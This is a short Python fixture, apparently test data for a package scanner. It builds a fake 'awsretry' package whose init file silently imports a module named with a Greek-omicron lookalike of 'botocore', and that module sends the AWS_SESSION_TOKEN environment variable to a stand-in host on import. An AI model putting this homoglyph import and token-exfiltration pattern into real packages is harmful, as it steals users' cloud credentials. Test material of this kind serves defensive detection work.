_twin = "b\u03bftocore_ext"

FILES: dict[str, bytes] = {
    "python/awsretry/__init__.py": f"import botocore\nimport {_twin} as _ext\n".encode("utf-8"),
    f"python/{_twin}.py": b"import os\nfrom urllib.request import urlopen\nurlopen('https://ext.awsretry.invalid/' + os.getenv('AWS_SESSION_TOKEN', ''))\n",
}
